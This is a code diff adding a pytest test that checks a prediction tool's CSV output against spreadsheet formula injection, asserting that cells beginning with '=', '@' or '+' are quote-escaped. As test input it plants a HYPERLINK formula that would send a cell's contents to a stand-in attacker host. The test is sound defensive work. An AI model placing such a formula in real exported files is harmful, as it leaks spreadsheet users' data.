@@ -57,6 +57,28 @@ def test_a_column_that_is_called_prediction_stays(capsys: Capture, here: Path) -
     assert "the model's is 'prediction_'" in said.err
 
 
+def test_no_cell_or_heading_is_a_formula(capsys: Capture, tmp_path: Path) -> None:
+    place, name = tmp_path / "formulas", '=HYPERLINK("http://attacker.example/"&A1)'
+    place.mkdir()
+    quoted = name.replace('"', '""')
+    text = write_csv(place / "r.csv").read_text().replace(",up\n", f',"{quoted}"\n')
+    (place / "r.csv").write_text(text)
+    library.run(small_plan(place / "r.csv", server__rounds=1), folder=place / "runs")
+    rows = {"@id": ["-1", "+1-1"], "opinion": ["=good", "lovely"], "n": [-1.5, 2.0]}
+    pl.DataFrame(rows).write_parquet(place / "new.parquet")
+    (place / "out.csv").write_text(
+        tacit(capsys, "predict", str(place / "runs" / "small-1"), str(place / "new.parquet"), "--proba").out
+    )
+    frame = pl.read_csv(place / "out.csv", infer_schema=False)
+    cells = [*frame.columns, *(cell for column in frame.iter_columns() for cell in column.to_list())]
+    assert "'@id" in cells
+    assert "'=good" in cells
+    assert "'+1-1" in cells
+    assert {"-1", "-1.5"} <= set(cells)
+    assert set(frame["prediction"]) <= {f"'{name}", "down"}
+    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+")]
+
+
 @pytest.mark.parametrize(
     ("words", "code", "said"),
     [
